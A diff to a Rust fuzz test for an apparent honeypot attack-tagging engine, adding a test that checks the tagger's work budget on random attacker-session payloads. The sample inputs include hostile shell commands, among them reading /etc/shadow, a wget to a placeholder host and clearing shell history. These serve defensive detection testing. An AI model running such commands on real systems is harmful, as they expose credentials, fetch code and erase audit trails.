@@ -10,6 +10,10 @@
 //! (canary subjects with a real token segment) and to `attacker.fingerprinted` under every
 //! envelope type, with the built-in pack and with DECNET's pack.
 //!
+//! A third run gives the same payloads, with sessions of up to 60 commands and strings of up
+//! to 2 kB, to a tagger on a small work budget, and checks that no message ever gets past it
+//! and that what was cut is accounted for.
+//!
 //! `TAGGING_FUZZ_SEED` and `TAGGING_FUZZ_CASES` (payloads per pack, default 1000) explore more.
 
 mod common;
@@ -19,7 +23,7 @@ use std::panic::{AssertUnwindSafe, catch_unwind, resume_unwind};
 use common::corpus::{reference_options, required};
 use serde_json::{Map, Value, json};
 use ttp_worker::tagging::{
-    CONFIDENCE_FLOOR, EngineOptions, KNOWN_KINDS, MessageTags, Tagger, Tally,
+    Budget, CONFIDENCE_FLOOR, EngineOptions, KNOWN_KINDS, MessageTags, Tagger, Tally,
 };
 use ttp_worker::topics::{ATTACKER_FINGERPRINTED, CANARY_ALL, TOPICS};
 
@@ -568,4 +572,70 @@ fn arbitrary_payloads_with_the_builtin_pack() {
 fn arbitrary_payloads_with_the_reference_pack() {
     required("decnet-rules");
     fuzz(&reference_options(), seed() ^ 0xdec);
+}
+
+/// The budget, asserted on every message: never more tags than it allows, never more command
+/// events, the cut commands exactly those past the limit, and no more events cut than built.
+#[test]
+fn arbitrary_payloads_never_get_past_the_work_budget() {
+    let budget = Budget {
+        commands: 6,
+        text_bytes: 600,
+        tags: 5,
+    };
+    let options = EngineOptions {
+        budget,
+        ..EngineOptions::default()
+    };
+    let mut tagger = Tagger::new(&options).unwrap();
+    tagger.set_clock(Some(0.0));
+    let mut rng = Rng(seed().wrapping_mul(0x2545_F491_4F6C_DD1D) | 1);
+    let firing = [
+        "cat /etc/shadow;wget http://x/a;uname -a",
+        "crontab -l",
+        "history -c",
+    ];
+    let mut cut_messages = 0;
+    for _ in 0..1000 {
+        let mut payload = payload(&mut rng);
+        let commands: Vec<Value> = (0..rng.below(60))
+            .map(|_| match rng.below(3) {
+                0 => command(&mut rng),
+                _ => json!(*rng.pick(&firing)),
+            })
+            .collect();
+        let listed = commands.len();
+        payload.insert("commands".into(), Value::Array(commands));
+        if rng.chance(4) {
+            let long = "x".repeat(rng.below(2048));
+            payload.insert("command_text".into(), json!(long));
+        }
+        payload.insert("session_id".into(), json!("s-fuzz"));
+        let tagged = tagger.tag_payload("attacker.session.ended", "session.ended", &payload);
+        let context = || {
+            format!(
+                "{:?}\npayload: {}",
+                tagged.cut,
+                Value::Object(payload.clone())
+            )
+        };
+        assert!(tagged.tag_count() <= budget.tags, "{}", context());
+        assert!(tagged.events <= budget.commands + 1, "{}", context());
+        // A message no event could be built from (no anchor) does no work at all.
+        let expected_cut = if tagged.unbuildable.is_some() {
+            0
+        } else {
+            listed.saturating_sub(budget.commands)
+        };
+        assert_eq!(tagged.cut.commands, expected_cut, "{}", context());
+        assert!(
+            tagged.cut.events_over_text + tagged.cut.events_over_tags <= tagged.events,
+            "{}",
+            context()
+        );
+        assert!(tagged.cut.events_over_text == 0 || tagged.cut.events_over_tags == 0);
+        cut_messages += usize::from(tagged.cut.any());
+    }
+    // The generator must reach every limit, or the test shows nothing.
+    assert!(cut_messages > 100, "only {cut_messages} messages cut");
 }
